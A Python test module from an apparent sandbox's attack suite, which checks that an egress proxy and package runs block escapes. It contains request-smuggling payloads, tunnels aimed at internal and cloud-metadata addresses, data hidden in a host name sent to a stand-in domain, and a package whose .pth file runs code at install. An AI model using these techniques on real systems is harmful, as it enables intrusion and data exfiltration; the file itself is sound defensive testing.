"""THREATS S: what fetches packages reaches only its registries, and what runs their code has no network.

The attacker of the first entries is at the guest's end of the egress proxy's socket and may send any bytes. They first
go through a careless proxy, where they must reach their victim. Every name leads to a server of ours on loopback.
"""

from __future__ import annotations

import socket
import sys
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import AbstractContextManager, contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path

from sandbox.attack.harness.egress_peers import (
    NAME,
    PUBLIC_ADDRESS,
    FakeNetwork,
    allow,
    build_client_hello,
    careless,
    connect_request,
    connected,
    read_head,
    read_rest,
    send_request,
    serving,
)
from sandbox.attack.harness.entry import AttackEntry
from sandbox.attack.harness.outcomes import GotThrough
from sandbox.attack.harness.package_index import serve_packages
from sandbox.attack.harness.package_runs import (
    PROJECT,
    REACH,
    needs_layers,
    open_controller,
    run_files,
)
from sandbox.attack.harness.scene import Scene, require_equal, require_hit
from sandbox.egress.destinations import AllowList
from sandbox.egress.proxy import EgressProxy
from sandbox.git.unhardened import run_unhardened
from sandbox.models import Verdict

OTHER = "other.example"
INTERNAL = ("127.0.0.1", "10.0.0.7", "172.17.0.1", "169.254.169.254", "::1", "::ffff:10.0.0.7", "fd00::1")
_QUIET_S, _ARRIVAL_S = 0.2, 2.0


# --- bytes for the proxy's socket


@dataclass(frozen=True)
class Attempt:
    """Bytes that a guest sends to the proxy. `carried`: what must not arrive at the server behind `answers`.

    `answers`: of the resolver, each look-up of a name gets the next one. `reached`: addresses that lead to the server.
    """

    what: str
    send: Callable[[Path], object]
    carried: bytes
    answers: Mapping[str, Sequence[Sequence[str]]] = field(default_factory=lambda: {NAME: [[PUBLIC_ADDRESS]]})
    reached: tuple[str, ...] = (PUBLIC_ADDRESS,)
    allowed: AllowList = field(default_factory=allow)


@dataclass(frozen=True)
class Arrival:
    """What an attempt came to. `arrived`: bytes at the server. `looked_up`: names that the resolver was asked for."""

    arrived: bytes
    looked_up: tuple[str, ...]
    refused: tuple[str, ...] = ()


def tunnel(authority: str, first: bytes) -> Callable[[Path], object]:
    """Ask for a tunnel, and send these bytes in it."""

    def send(path: Path) -> None:
        with connected(path) as client:
            client.sendall(connect_request(authority))
            if read_head(client).startswith(b"HTTP/1.1 200"):
                client.sendall(first)
                read_rest(client)

    return send


def try_careless(scene: Scene, attempt: Attempt) -> Arrival:
    """Send the bytes through a proxy that connects to whatever it is asked for."""
    return _try(attempt, lambda network: careless(scene.root / "careless", network), scene.root / "careless")


def try_ours(scene: Scene, attempt: Attempt) -> Arrival:
    """Send the bytes through the product's proxy."""
    used: list[EgressProxy] = []

    @contextmanager
    def proxy(network: FakeNetwork) -> Iterator[None]:
        with EgressProxy(scene.root / "ours", attempt.allowed, outside=network.outside) as started:
            used.append(started)
            yield

    found = _try(attempt, proxy, scene.root / "ours")
    refused = tuple(access.refused.value for access in used[0].accesses if access.refused)
    return Arrival(found.arrived, found.looked_up, refused)


def _try(attempt: Attempt, proxy: Callable[[FakeNetwork], AbstractContextManager[None]], path: Path) -> Arrival:
    with serving(answer=_read_until_quiet) as server:
        network = FakeNetwork(attempt.answers, dict.fromkeys(attempt.reached, server.port))
        with proxy(network), suppress(OSError):
            attempt.send(path)
        dialled = sum(address.rpartition(":")[0] in attempt.reached for address in network.dialled)
        ends_at = time.monotonic() + _ARRIVAL_S
        while len(server.contacts) < dialled and time.monotonic() < ends_at:
            time.sleep(0.01)
    return Arrival(b"".join(server.contacts), tuple(network.looked_up))


def _read_until_quiet(connection: socket.socket) -> bytes:
    connection.settimeout(_QUIET_S)
    found = b""
    with suppress(OSError):
        while more := connection.recv(65536):
            found += more
    return found


def _strangers() -> list[Attempt]:
    hello = build_client_hello(OTHER)
    places = {OTHER: [[PUBLIC_ADDRESS]], NAME: [[PUBLIC_ADDRESS]]}
    reached = (PUBLIC_ADDRESS, "127.0.0.1", "[::1]")
    targets = (f"{OTHER}:443", f"{PUBLIC_ADDRESS}:443", "127.0.0.1:443", "[::1]:443", f"{NAME}:22")
    return [Attempt(target, tunnel(target, hello), hello, places, reached) for target in targets]


def _secret_names() -> list[Attempt]:
    name = f"the-secret-of-the-guest.{OTHER}"
    hello = build_client_hello(name)
    return [Attempt(name, tunnel(f"{name}:443", hello), hello, {name: [[PUBLIC_ADDRESS]]})]


def _internal_addresses() -> list[Attempt]:
    hello = build_client_hello(NAME)
    send = tunnel(f"{NAME}:443", hello)
    changing = {NAME: [[PUBLIC_ADDRESS], ["127.0.0.1"]]}
    return [
        *(Attempt(address, send, hello, {NAME: [[address]]}, (address,)) for address in INTERNAL),
        Attempt("an answer that changes after the look", send, hello, changing, ("127.0.0.1",)),
    ]


def _foreign_tunnels() -> list[Attempt]:
    firsts = {
        "another server's name": build_client_hello(OTHER),
        "ssh": b"SSH-2.0-x\r\n",
        "http": b"GET / HTTP/1.1\r\n",
    }
    return [Attempt(what, tunnel(f"{NAME}:443", first), first) for what, first in firsts.items()]


def _smuggled_requests() -> list[Attempt]:
    hidden = f"GET /secret HTTP/1.1\r\nHost: {OTHER}\r\n\r\n"
    head = f"GET http://{NAME}/a HTTP/1.1\r\nHost: {NAME}\r\n"
    texts = {
        "after the first": f"{head}\r\n{hidden}",
        "as a body": f"{head}Content-Length: {len(hidden)}\r\n\r\n{hidden}",
        "as a chunk": f"{head}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
        "two lengths": f"{head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
        "another host's header": f"GET http://{NAME}/a HTTP/1.1\r\nHost: {OTHER}\r\n\r\n",
        "in the line": f"GET http://{NAME}/a\x0bHost:{OTHER} HTTP/1.1\r\nHost: {NAME}\r\n\r\n",
    }
    plain = allow(port=80, plain=True)
    return [
        Attempt(what, lambda path, text=text: send_request(path, text.encode()), OTHER.encode(), allowed=plain)  # type: ignore[misc]  # a default binds the loop's value
        for what, text in texts.items()
    ]


Attempts = Callable[[], list[Attempt]]


def _arrive_carelessly(attempts: Attempts) -> Callable[[Scene], str]:
    def control(scene: Scene) -> str:
        for attempt in attempts():
            arrived = try_careless(scene, attempt).arrived
            require_hit(attempt.carried in arrived, f"a careless proxy did not deliver it either: {attempt.what}")
        return f"a careless proxy delivered all {len(attempts())}"

    return control


def _never_arrive(attempts: Attempts, *, looked_up: bool) -> Callable[[Scene], str]:
    def attack(scene: Scene) -> str:
        _require_open(scene)
        reasons: list[str] = []
        for attempt in attempts():
            found = try_ours(scene, attempt)
            if attempt.carried in found.arrived:
                raise GotThrough(f"it arrived: {attempt.what}")
            if not looked_up and found.looked_up:
                raise GotThrough(f"the name was looked up: {found.looked_up[0]}")
            reasons += found.refused or ("only our own head arrived",)
        return f"of {len(attempts())} none arrived: {', '.join(sorted(set(reasons)))}"

    return attack


def _require_open(scene: Scene) -> None:
    """Raises: `Void` if the proxy passes no bytes on at all: then a refusal is no proof."""
    hello = build_client_hello(NAME)
    found = try_ours(scene, Attempt("honest", tunnel(f"{NAME}:443", hello), hello))
    require_hit(hello in found.arrived, "the proxy does not pass on an honest request")


# --- packages, through the whole product

_AT_INSTALL = (
    "import evil, os; p = os.path.join(os.path.dirname(evil.__file__), 'proof'); "
    "os.path.exists(p) or open(p, 'w').write('ran ' + ' '.join(evil.reach(evil.PLACES)))\n"
)
"""A line of a `.pth` file: Python runs it at each start, also while the package is installed."""

_AT_CHECK = """
import evil, os
d = os.path.dirname(evil.__file__)
assert d.startswith('/sandbox-layers/'), d
print('reached' if evil.reach(evil.PLACES) else 'alone')
for change in (lambda: open(d + '/evil.py', 'a'), lambda: os.chmod(d, 0o777), lambda: os.remove(d + '/proof')):
    try:
        change()
        print('changed')
    except OSError:
        print('read-only')
"""


def _package(port: int) -> str:
    return f"{REACH}\nPLACES = [('127.0.0.1', {port}), ('127.0.0.1', 3128), '/sandbox-egress']\n"


def _reaches_from_host(scene: Scene) -> str:
    with serve_packages() as index:
        program = f"{_package(index.port)}\nprint(reach(PLACES))"
        done = run_unhardened([sys.executable, "-I", "-c", program], cwd=scene.root, home=scene.root)
    require_hit("reached" in done.text, "the package's code did not reach the listener from this host")
    return "run on this host, the package's code reached the listener"


def _reaches_nothing(scene: Scene) -> str:
    with serve_packages() as index, open_controller(scene, index) as workbench:
        index.add("evil", "1", {"evil.py": _package(index.port), "evil.pth": _AT_INSTALL})
        (run,) = run_files(scene, workbench, "network", {"pyproject.toml": PROJECT, "use.py": _AT_CHECK}).runs
        proofs = list(scene.home.glob("repositories/dependencies/trees/*/lib/*/site-packages/proof"))
        require_hit(len(proofs) == 1, "the package's code did not run while it was installed")
        require_equal(proofs[0].read_text().strip(), "ran", "while it was installed")
    require_equal(run.verdict, Verdict.PASSED, f"the check, {run.stderr_tail[-300:]}")
    require_equal(run.stdout_tail.split(), ["alone", *["read-only"] * 3], "in the check")
    return "no network while it was installed or used; the check could not change the layer"


def _same_name_other_bytes(_scene: Scene) -> str:
    with serve_packages() as index:
        first = index.add("evil", "1", {"evil.py": "value = 1\n"})
        require_hit(first != index.add("evil", "1", {"evil.py": "value = 2\n"}), "equal archives")
    return "the index serves other bytes under the same name and version: a cache by name would give them to both"


def _own_bytes(scene: Scene) -> str:
    uses = {"pyproject.toml": PROJECT, "use.py": "import evil\nassert evil.value == 1\n"}
    with serve_packages() as index, open_controller(scene, index) as workbench:
        index.add("evil", "1", {"evil.py": "value = 1\n"})
        first = run_files(scene, workbench, "victim", uses)
        require_equal(first.verified, True, "the victim's check")
        index.add("evil", "1", {"evil.py": "value = 2\n"})
        other = PROJECT.replace("evil", "evil>=1")
        attacker = run_files(scene, workbench, "attacker", uses | {"pyproject.toml": other})
        require_hit(attacker.runs[0].layers, "the attacker's repository got no layer")
        if attacker.runs[0].layers == first.runs[0].layers:
            raise GotThrough("other archives gave the same layer")
        again = run_files(scene, workbench, "victim", uses | {"more": "x"})
        require_equal((again.verified, again.runs[0].layers), (True, first.runs[0].layers), "the victim's next commit")
    return "other bytes are another layer; the victim kept its own"


def _entry(id_: str, title: str, attempts: Attempts, *, looked_up: bool = True) -> AttackEntry:
    return AttackEntry(
        id_,
        title,
        "egress proxy",
        _arrive_carelessly(attempts),
        _never_arrive(attempts, looked_up=looked_up),
        scene="bare",
    )


ENTRIES = (
    _entry("S61", "a fetch that asks for no registry", _strangers, looked_up=False),
    _entry("S62", "a secret in a host name", _secret_names, looked_up=False),
    _entry("S63", "a registry's name that leads inside", _internal_addresses),
    _entry("S64", "another server in a registry's tunnel", _foreign_tunnels),
    _entry("S65", "a request hidden in another", _smuggled_requests),
    AttackEntry("S66", "a package that reaches out or changes itself", "run", _reaches_from_host, _reaches_nothing,
          needs=(needs_layers,), scene="bare", needs_engine=True),
    AttackEntry("S67", "packages for another repository", "run", _same_name_other_bytes, _own_bytes,
          needs=(needs_layers,), scene="bare", needs_engine=True),
)  # fmt: skip
